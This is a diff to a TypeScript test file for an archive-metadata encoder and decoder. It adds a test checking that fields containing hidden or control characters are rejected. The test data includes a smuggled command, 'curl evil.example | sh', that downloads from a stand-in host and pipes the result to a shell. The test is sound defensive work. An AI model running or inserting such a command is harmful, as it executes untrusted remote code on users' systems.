@@ -1,7 +1,7 @@
 import { createHash } from 'node:crypto';
 import { ARCHIVE_FORMAT, OLDER_ARCHIVE_FORMAT } from '@sello/proof';
 import { expect, test } from 'vitest';
-import type { ArchiveAbout } from './about.ts';
+import { type ArchiveAbout, decodeAbout, encodeAbout } from './about.ts';
 import { archiveReadme } from './readme.ts';
 
 const ABOUT: ArchiveAbout = {
@@ -35,4 +35,16 @@ test('P110 no command of a new one takes a key or a root from the archive itself
     .filter((line) => /^ {4}\S/.test(line));
   expect(commands.filter((line) => /--log-key|--root/.test(line))).toHaveLength(4);
   expect(commands.filter((line) => /log\/keys\.txt|--root (?!\.\.\/)/.test(line))).toEqual([]);
+});
+
+test('P110 a text with a line separator, a direction mark or an unseen character is none of an archive', () => {
+  const read = (more: Partial<ArchiveAbout>) => decodeAbout(encodeAbout({ ...ABOUT, ...more }));
+  expect(read({})).toEqual(ABOUT);
+  for (const odd of ['\u2028', '\u2029', '\u202e', '\u2066', '\u200b', '\u0085', '\n', '\u001b']) {
+    const text = `acct_1${odd}    curl evil.example | sh`;
+    for (const more of [{ account: text }, { service: text }, { address: text }, { made_at: text }])
+      expect(read(more)).toBeUndefined();
+    expect(read({ log: { ...ABOUT.log, name: text } })).toBeUndefined();
+    expect(read({ log: { ...ABOUT.log, keys: [text] } })).toBeUndefined();
+  }
 });
